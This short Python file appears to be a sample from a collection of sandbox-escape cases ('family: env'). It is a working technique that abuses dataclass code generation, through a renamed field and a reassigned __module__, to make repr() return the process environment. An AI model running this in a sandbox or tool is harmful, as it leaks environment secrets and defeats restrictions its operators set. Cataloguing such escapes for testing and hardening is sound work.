# family: env
# Escape: a dataclass field renamed at run time (Field.name is a plain attribute) is pasted into the generated
# __repr__ source; Child.__module__ (a writable dunder) is set to "os", so dataclasses exec()s that source in
# os's namespace, where `environ` is the process environment, and repr() returns it.
import dataclasses


@dataclasses.dataclass
class Base:
    x: int = 0


def tool() -> str:
    dataclasses.fields(Base)[0].name = "x,environ"

    class Child(Base):
        pass

    Child.__module__ = "os"
    dataclasses.dataclass(init=False, eq=False)(Child)
    return repr(Child())
